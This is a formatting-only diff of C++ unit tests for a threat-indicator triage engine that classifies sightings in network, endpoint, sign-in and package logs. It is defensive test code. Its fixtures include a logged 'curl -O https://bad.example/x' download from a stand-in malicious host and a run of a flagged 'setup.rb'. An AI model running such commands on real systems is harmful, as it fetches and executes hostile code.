@@ -26,12 +26,20 @@ model::Device gateway() { return {"mx-1", "", {"10.1.0.25"}, "", "appliance", "m
 
 model::Event lookup(std::string_view ip, std::string_view answer, std::string_view rcode = "NOERROR") {
   return event_of(EventClass::dns_activity, noon,
-                  {{Attribute::src_ip, ip}, {Attribute::query_hostname, "bad.example"}, {Attribute::query_type, "A"}, {Attribute::answer, answer}, {Attribute::rcode, rcode}});
+                  {{Attribute::src_ip, ip},
+                   {Attribute::query_hostname, "bad.example"},
+                   {Attribute::query_type, "A"},
+                   {Attribute::answer, answer},
+                   {Attribute::rcode, rcode}});
 }
 
-model::Event connection(std::string_view ip, std::string_view to, std::string_view state, std::string_view time = "2030-05-10T12:00:01Z") {
+model::Event connection(std::string_view ip, std::string_view to, std::string_view state,
+                        std::string_view time = "2030-05-10T12:00:01Z") {
   return event_of(EventClass::network_activity, time,
-                  {{Attribute::src_ip, ip}, {Attribute::dst_ip, to}, {Attribute::dst_port, "443"}, {Attribute::connection_state, state}});
+                  {{Attribute::src_ip, ip},
+                   {Attribute::dst_ip, to},
+                   {Attribute::dst_port, "443"},
+                   {Attribute::connection_state, state}});
 }
 
 void expect_explained(const model::CaseFinding& finding, std::string_view rule) {
@@ -91,19 +99,27 @@ TEST(Lookup, AnsweredWithNowhereIsSinkholed) {
 
 TEST(Lookup, ReversedIsNoContact) {
   Scene scene(ValueType::domain, "bad.example");
-  scene.device(ordinary()).sighting(event_of(EventClass::dns_activity, noon,
-                                             {{Attribute::src_ip, "10.1.0.7"}, {Attribute::query_hostname, "9.113.0.203.in-addr.arpa"}, {Attribute::query_type, "PTR"}, {Attribute::answer, "bad.example"}}),
-                                    {Attribute::answer});
+  scene.device(ordinary())
+      .sighting(event_of(EventClass::dns_activity, noon,
+                         {{Attribute::src_ip, "10.1.0.7"},
+                          {Attribute::query_hostname, "9.113.0.203.in-addr.arpa"},
+                          {Attribute::query_type, "PTR"},
+                          {Attribute::answer, "bad.example"}}),
+                {Attribute::answer});
   expect_explained(scene.finding(), "reverse-lookup");
 }
 
 TEST(Connection, EstablishedCountsAndRefusedDoesNot) {
   Scene established(ValueType::ipv4, "203.0.113.9");
-  established.file("zeek_conn").device(ordinary()).sighting(connection("10.1.0.7", "203.0.113.9", "SF"), {Attribute::dst_ip});
+  established.file("zeek_conn")
+      .device(ordinary())
+      .sighting(connection("10.1.0.7", "203.0.113.9", "SF"), {Attribute::dst_ip});
   expect_counts(established.finding(), Grade::contacted);
   for (const std::string_view state : {"S0", "REJ", "SH", "OTH"}) {
     Scene refused(ValueType::ipv4, "203.0.113.9");
-    refused.file("zeek_conn").device(ordinary()).sighting(connection("10.1.0.7", "203.0.113.9", state), {Attribute::dst_ip});
+    refused.file("zeek_conn")
+        .device(ordinary())
+        .sighting(connection("10.1.0.7", "203.0.113.9", state), {Attribute::dst_ip});
     expect_explained(refused.finding(), "refused");
   }
 }
@@ -130,11 +146,14 @@ TEST(Validity, OutsideThePublishedTimeIsExplainedAndInsideCounts) {
     std::string_view name, from, to;
     bool counts;
   };
-  for (const Case& c : {Case{"inside", "2030-05-01", "2030-06-01", true}, Case{"before", "2030-05-11", "2030-06-01", false},
-                        Case{"after", "2030-01-01", "2030-05-10", false}, Case{"last_day", "2030-01-01", "2030-05-11", true}}) {
+  for (const Case& c :
+       {Case{"inside", "2030-05-01", "2030-06-01", true}, Case{"before", "2030-05-11", "2030-06-01", false},
+        Case{"after", "2030-01-01", "2030-05-10", false}, Case{"last_day", "2030-01-01", "2030-05-11", true}}) {
     Scene scene(ValueType::ipv4, "203.0.113.9");
     scene.indicators[0].valid = {at(c.from), at(c.to)};
-    scene.file("zeek_conn").device(ordinary()).sighting(connection("10.1.0.7", "203.0.113.9", "SF", noon), {Attribute::dst_ip});
+    scene.file("zeek_conn")
+        .device(ordinary())
+        .sighting(connection("10.1.0.7", "203.0.113.9", "SF", noon), {Attribute::dst_ip});
     const auto finding = scene.finding();
     EXPECT_EQ(finding.status == FindingStatus::counts, c.counts) << c.name;
     EXPECT_EQ(finding.rule, c.counts ? "" : "outside-validity") << c.name;
@@ -148,81 +167,123 @@ TEST(Validity, YearsBeforePublicationItWasSomebodyElses) {
   expect_explained(old.finding(), "long-before-publication");
   Scene recent(ValueType::ipv4, "203.0.113.9");
   recent.indicators[0].published = "2031-06-01";
-  recent.file("zeek_conn").device(ordinary()).sighting(connection("10.1.0.7", "203.0.113.9", "SF"), {Attribute::dst_ip});
+  recent.file("zeek_conn")
+      .device(ordinary())
+      .sighting(connection("10.1.0.7", "203.0.113.9", "SF"), {Attribute::dst_ip});
   expect_counts(recent.finding(), Grade::contacted);
 }
 
 TEST(Research, OfAnAnalystIsExplainedButContactIsNot) {
   const auto command = [](std::string_view line) {
-    return event_of(EventClass::process_activity, noon, {{Attribute::device_hostname, "lab-1"}, {Attribute::process_path, "/usr/local/bin/notebook"}, {Attribute::process_cmd_line, line}});
+    return event_of(EventClass::process_activity, noon,
+                    {{Attribute::device_hostname, "lab-1"},
+                     {Attribute::process_path, "/usr/local/bin/notebook"},
+                     {Attribute::process_cmd_line, line}});
   };
   Scene looked(ValueType::domain, "bad.example");
-  looked.file("osquery").device(analyst()).sighting(command("notebook open bad.example"), {Attribute::process_cmd_line});
+  looked.file("osquery").device(analyst()).sighting(command("notebook open bad.example"),
+                                                    {Attribute::process_cmd_line});
   expect_explained(looked.finding(), "analyst-research");
 
   Scene contact(ValueType::ipv4, "203.0.113.9");
-  contact.file("zeek_conn").device(analyst()).sighting(connection("10.1.9.1", "203.0.113.9", "SF"), {Attribute::dst_ip});
+  contact.file("zeek_conn")
+      .device(analyst())
+      .sighting(connection("10.1.9.1", "203.0.113.9", "SF"), {Attribute::dst_ip});
   expect_counts(contact.finding(), Grade::contacted);
 }
 
 TEST(SearchCommand, IsExplainedOnAnyDeviceAndAFetchCounts) {
   const auto command = [](std::string_view path, std::string_view line) {
-    return event_of(EventClass::process_activity, noon, {{Attribute::device_hostname, "desk-7"}, {Attribute::process_path, path}, {Attribute::process_cmd_line, line}});
+    return event_of(
+        EventClass::process_activity, noon,
+        {{Attribute::device_hostname, "desk-7"}, {Attribute::process_path, path}, {Attribute::process_cmd_line, line}});
   };
   Scene search(ValueType::domain, "bad.example");
-  search.file("osquery").device(ordinary()).sighting(command("/usr/bin/grep", "grep -r bad.example /var/log"), {Attribute::process_cmd_line});
+  search.file("osquery")
+      .device(ordinary())
+      .sighting(command("/usr/bin/grep", "grep -r bad.example /var/log"), {Attribute::process_cmd_line});
   expect_explained(search.finding(), "search-command");
   Scene fetch(ValueType::domain, "bad.example");
-  fetch.file("osquery").device(ordinary()).sighting(command("/usr/bin/curl", "curl -O https://bad.example/x"), {Attribute::process_cmd_line});
+  fetch.file("osquery")
+      .device(ordinary())
+      .sighting(command("/usr/bin/curl", "curl -O https://bad.example/x"), {Attribute::process_cmd_line});
   expect_counts(fetch.finding(), Grade::executed);
 }
 
 TEST(LinkScanner, IsExplainedUntilItComesBackTooOften) {
   Scene scan_once(ValueType::ipv4, "203.0.113.9");
-  scan_once.file("zeek_conn").device(gateway()).sighting(connection("10.1.0.25", "203.0.113.9", "SF"), {Attribute::dst_ip});
+  scan_once.file("zeek_conn")
+      .device(gateway())
+      .sighting(connection("10.1.0.25", "203.0.113.9", "SF"), {Attribute::dst_ip});
   expect_explained(scan_once.finding(), "link-scanner");
   Scene beacon(ValueType::ipv4, "203.0.113.9");
-  beacon.file("zeek_conn").device(gateway()).sighting(connection("10.1.0.25", "203.0.113.9", "SF"), {Attribute::dst_ip});
+  beacon.file("zeek_conn")
+      .device(gateway())
+      .sighting(connection("10.1.0.25", "203.0.113.9", "SF"), {Attribute::dst_ip});
   beacon.scan.kept[0].records = 500;
   expect_counts(beacon.finding(), Grade::contacted);
 }
 
 TEST(File, ThatRanCountsAsExecutedAndOneThatOnlyLiesThereAsAttempted) {
   const auto file = [] {
-    return event_of(EventClass::file_activity, noon, {{Attribute::device_hostname, "desk-7"}, {Attribute::file_path, "/private/tmp/setup.rb"}, {Attribute::file_md5, "00112233445566778899aabbccddeeff"}});
+    return event_of(EventClass::file_activity, noon,
+                    {{Attribute::device_hostname, "desk-7"},
+                     {Attribute::file_path, "/private/tmp/setup.rb"},
+                     {Attribute::file_md5, "00112233445566778899aabbccddeeff"}});
   };
   const auto run = [](std::string_view host, std::string_view path, std::string_view line) {
-    return event_of(EventClass::process_activity, noon, {{Attribute::device_hostname, host}, {Attribute::process_path, path}, {Attribute::process_cmd_line, line}});
+    return event_of(
+        EventClass::process_activity, noon,
+        {{Attribute::device_hostname, host}, {Attribute::process_path, path}, {Attribute::process_cmd_line, line}});
   };
   Scene ran(ValueType::md5, "00112233445566778899aabbccddeeff");
-  ran.file("osquery").device(ordinary()).sighting(file(), {Attribute::file_md5}).around(ValueType::file_name, "setup.rb", run("desk-7", "/usr/bin/ruby", "ruby setup.rb"));
+  ran.file("osquery")
+      .device(ordinary())
+      .sighting(file(), {Attribute::file_md5})
+      .around(ValueType::file_name, "setup.rb", run("desk-7", "/usr/bin/ruby", "ruby setup.rb"));
   expect_counts(ran.finding(), Grade::executed);
 
   Scene elsewhere(ValueType::md5, "00112233445566778899aabbccddeeff");
-  elsewhere.file("osquery").device(ordinary()).sighting(file(), {Attribute::file_md5}).around(ValueType::file_name, "setup.rb", run("desk-8", "/usr/bin/ruby", "ruby setup.rb"));
+  elsewhere.file("osquery")
+      .device(ordinary())
+      .sighting(file(), {Attribute::file_md5})
+      .around(ValueType::file_name, "setup.rb", run("desk-8", "/usr/bin/ruby", "ruby setup.rb"));
   expect_counts(elsewhere.finding(), Grade::attempted);
 }
 
 TEST(File, ThatStartedAnotherProgramHasRun) {
   Scene scene(ValueType::file_path, "/opt/x/helperd");
-  scene.file("osquery").device(ordinary()).sighting(event_of(EventClass::process_activity, noon,
-                                                             {{Attribute::device_hostname, "desk-7"}, {Attribute::process_path, "/bin/sh"}, {Attribute::parent_process_path, "/opt/x/helperd"}}),
-                                                    {Attribute::parent_process_path});
+  scene.file("osquery")
+      .device(ordinary())
+      .sighting(event_of(EventClass::process_activity, noon,
+                         {{Attribute::device_hostname, "desk-7"},
+                          {Attribute::process_path, "/bin/sh"},
+                          {Attribute::parent_process_path, "/opt/x/helperd"}}),
+                {Attribute::parent_process_path});
   expect_counts(scene.finding(), Grade::executed);
 }
 
 TEST(Blocked, ByAControlIsExplained) {
   Scene scene(ValueType::domain, "bad.example");
-  auto event = event_of(EventClass::http_activity, noon, {{Attribute::src_ip, "10.1.0.7"}, {Attribute::http_host, "bad.example"}, {Attribute::http_status, "403"}});
+  auto event = event_of(
+      EventClass::http_activity, noon,
+      {{Attribute::src_ip, "10.1.0.7"}, {Attribute::http_host, "bad.example"}, {Attribute::http_status, "403"}});
   event.disposition = model::Disposition::blocked;
   scene.file("squid_access").device(ordinary()).sighting(std::move(event), {Attribute::http_host});
   expect_explained(scene.finding(), "blocked");
 }
 
-model::Event sign_in(std::string_view ip, std::string_view type, std::string_view mfa, std::string_view os, bool success = true) {
+model::Event sign_in(std::string_view ip, std::string_view type, std::string_view mfa, std::string_view os,
+                     bool success = true) {
   auto event = event_of(EventClass::authentication, noon,
-                        {{Attribute::src_ip, ip}, {Attribute::actor_user_name, "kim"}, {Attribute::actor_user_type, type}, {Attribute::is_mfa, mfa},
-                         {Attribute::client_os, os}, {Attribute::user_agent, "Safari"}, {Attribute::device_uid, "dev7"}, {Attribute::event_code, "sso_auth"}});
+                        {{Attribute::src_ip, ip},
+                         {Attribute::actor_user_name, "kim"},
+                         {Attribute::actor_user_type, type},
+                         {Attribute::is_mfa, mfa},
+                         {Attribute::client_os, os},
+                         {Attribute::user_agent, "Safari"},
+                         {Attribute::device_uid, "dev7"},
+                         {Attribute::event_code, "sso_auth"}});
   event.status = success ? model::Status::success : model::Status::failure;
   return event;
 }
@@ -232,8 +293,9 @@ TEST(SharedExit, ExplainsAnOrdinarySignInOnly) {
     std::string_view name, type, mfa, os;
     bool counts;
   };
-  for (const Case& c : {Case{"usual", "user", "true", "macOS", false}, Case{"no_second_factor", "user", "false", "macOS", true},
-                        Case{"admin", "admin", "true", "macOS", true}, Case{"strange_client", "user", "true", "Linux", true}}) {
+  for (const Case& c :
+       {Case{"usual", "user", "true", "macOS", false}, Case{"no_second_factor", "user", "false", "macOS", true},
+        Case{"admin", "admin", "true", "macOS", true}, Case{"strange_client", "user", "true", "Linux", true}}) {
     // The inventory gives this device to nobody, so that only the client can speak for the sign-in.
     Scene scene(ValueType::ipv4, "203.0.113.9");
     scene.file("jumpcloud_directory_insights")
@@ -250,14 +312,17 @@ TEST(SharedExit, TakesTheInventorysWordForWhoseDeviceItIs) {
     Scene scene(ValueType::ipv4, "203.0.113.9");
     model::Device device = ordinary();
     device.user = user;
-    scene.file("jumpcloud_directory_insights").device(device).sighting(sign_in("203.0.113.9", "user", "true", "macOS"), {Attribute::src_ip});
+    scene.file("jumpcloud_directory_insights")
+        .device(device)
+        .sighting(sign_in("203.0.113.9", "user", "true", "macOS"), {Attribute::src_ip});
     EXPECT_EQ(scene.finding().status == FindingStatus::explained, user == "kim") << user;
   }
 }
 
 TEST(SharedExit, ExplainsNothingOnADeviceThatIsInQuestionAnyway) {
   Scene scene(ValueType::ipv4, "203.0.113.9");
-  scene.file("jumpcloud_directory_insights").device(ordinary())
+  scene.file("jumpcloud_directory_insights")
+      .device(ordinary())
       .sighting(sign_in("203.0.113.9", "user", "true", "macOS"), {Attribute::src_ip})
       .sighting(connection("10.1.0.7", "203.0.113.9", "SF"), {Attribute::dst_ip})
       .around(ValueType::account, "kim", sign_in("198.51.100.1", "user", "true", "macOS"));
@@ -266,13 +331,15 @@ TEST(SharedExit, ExplainsNothingOnADeviceThatIsInQuestionAnyway) {
 
 TEST(SignIn, ThatFailedIsExplained) {
   Scene scene(ValueType::ipv4, "203.0.113.9");
-  scene.file("jumpcloud_directory_insights").sighting(sign_in("203.0.113.9", "user", "false", "Linux", false), {Attribute::src_ip});
+  scene.file("jumpcloud_directory_insights")
+      .sighting(sign_in("203.0.113.9", "user", "false", "Linux", false), {Attribute::src_ip});
   expect_explained(scene.finding(), "failed-sign-in");
 }
 
 TEST(Package, PlaceholderIsHarmlessAndAnotherVersionIsNot) {
   const auto lock = [](std::string_view version) {
-    return event_of(EventClass::other, "", {{Attribute::package_name, "left-pod"}, {Attribute::package_version, version}});
+    return event_of(EventClass::other, "",
+                    {{Attribute::package_name, "left-pod"}, {Attribute::package_version, version}});
   };
   Scene placeholder(ValueType::package, "left-pod");
   placeholder.file("npm_lock").sighting(lock("0.0.1-security"), {Attribute::package_name});
@@ -284,12 +351,15 @@ TEST(Package, PlaceholderIsHarmlessAndAnotherVersionIsNot) {
 
 TEST(Package, NamedInABuildLogIsNotInstalled) {
   Scene scene(ValueType::package, "left-pod");
-  scene.file("text").sighting(event_of(EventClass::other, noon, {{Attribute::message, "Malware in left-pod"}}), {Attribute::message});
+  scene.file("text").sighting(event_of(EventClass::other, noon, {{Attribute::message, "Malware in left-pod"}}),
+                              {Attribute::message});
   expect_explained(scene.finding(), "package-named-only");
 }
 
 TEST(IndicatorList, AtRestIsExplainedAndALogIsNot) {
-  const auto line = [](std::string_view time) { return event_of(EventClass::other, time, {{Attribute::message, "bad.example"}}); };
+  const auto line = [](std::string_view time) {
+    return event_of(EventClass::other, time, {{Attribute::message, "bad.example"}});
+  };
   Scene list(ValueType::domain, "bad.example");
   list.file("text").sighting(line(""), {Attribute::message});
   list.scan.files[0].events = 5;
@@ -305,13 +375,17 @@ TEST(IndicatorList, AtRestIsExplainedAndALogIsNot) {
 
 TEST(Mail, NamesAndDoesNotFollow) {
   Scene scene(ValueType::domain, "bad.example");
-  scene.file("mail").sighting(event_of(EventClass::email_activity, noon, {{Attribute::email_subject, "New certificates"}}), {});
+  scene.file("mail").sighting(
+      event_of(EventClass::email_activity, noon, {{Attribute::email_subject, "New certificates"}}), {});
   expect_explained(scene.finding(), "mail");
 }
 
 TEST(Parameters, OfACallAreNotItsOrigin) {
   Scene scene(ValueType::ipv4, "203.0.113.9");
-  auto event = event_of(EventClass::api_activity, noon, {{Attribute::src_ip, "198.51.100.1"}, {Attribute::api_operation, "CreateIPSet"}, {Attribute::resource_name, "203.0.113.9"}});
+  auto event = event_of(EventClass::api_activity, noon,
+                        {{Attribute::src_ip, "198.51.100.1"},
+                         {Attribute::api_operation, "CreateIPSet"},
+                         {Attribute::resource_name, "203.0.113.9"}});
   event.status = model::Status::success;
   scene.file("cloudtrail").sighting(std::move(event), {Attribute::resource_name});
   expect_explained(scene.finding(), "named-in-parameters");
@@ -319,9 +393,14 @@ TEST(Parameters, OfACallAreNotItsOrigin) {
 
 TEST(NamedElsewhere, AWebRequestToAnotherHostIsNoContact) {
   Scene scene(ValueType::domain, "bad.example");
-  scene.file("zeek_http").device(ordinary()).sighting(event_of(EventClass::http_activity, noon,
-                                                               {{Attribute::src_ip, "10.1.0.7"}, {Attribute::http_host, "lookup.example"}, {Attribute::http_path, "/domain/bad.example"}, {Attribute::http_status, "200"}}),
-                                                      {Attribute::http_path});
+  scene.file("zeek_http")
+      .device(ordinary())
+      .sighting(event_of(EventClass::http_activity, noon,
+                         {{Attribute::src_ip, "10.1.0.7"},
+                          {Attribute::http_host, "lookup.example"},
+                          {Attribute::http_path, "/domain/bad.example"},
+                          {Attribute::http_status, "200"}}),
+                {Attribute::http_path});
   expect_explained(scene.finding(), "named-in-another-request");
 }
 
@@ -339,7 +418,9 @@ TEST(Findings, TheSameRecordTwiceIsOneAndIsCounted) {
 
 TEST(Findings, AreNumberedInOrderOfTime) {
   Scene scene(ValueType::ipv4, "203.0.113.9");
-  scene.file("zeek_conn").device(ordinary()).device({"desk-8", "dev8", {"10.1.0.8"}, "lou", "macOS", "employee laptop", 0})
+  scene.file("zeek_conn")
+      .device(ordinary())
+      .device({"desk-8", "dev8", {"10.1.0.8"}, "lou", "macOS", "employee laptop", 0})
       .sighting(connection("10.1.0.8", "203.0.113.9", "SF", "2030-05-11T00:00:00Z"), {Attribute::dst_ip})
       .sighting(connection("10.1.0.7", "203.0.113.9", "SF", "2030-05-10T00:00:00Z"), {Attribute::dst_ip});
   const auto findings = scene.findings();
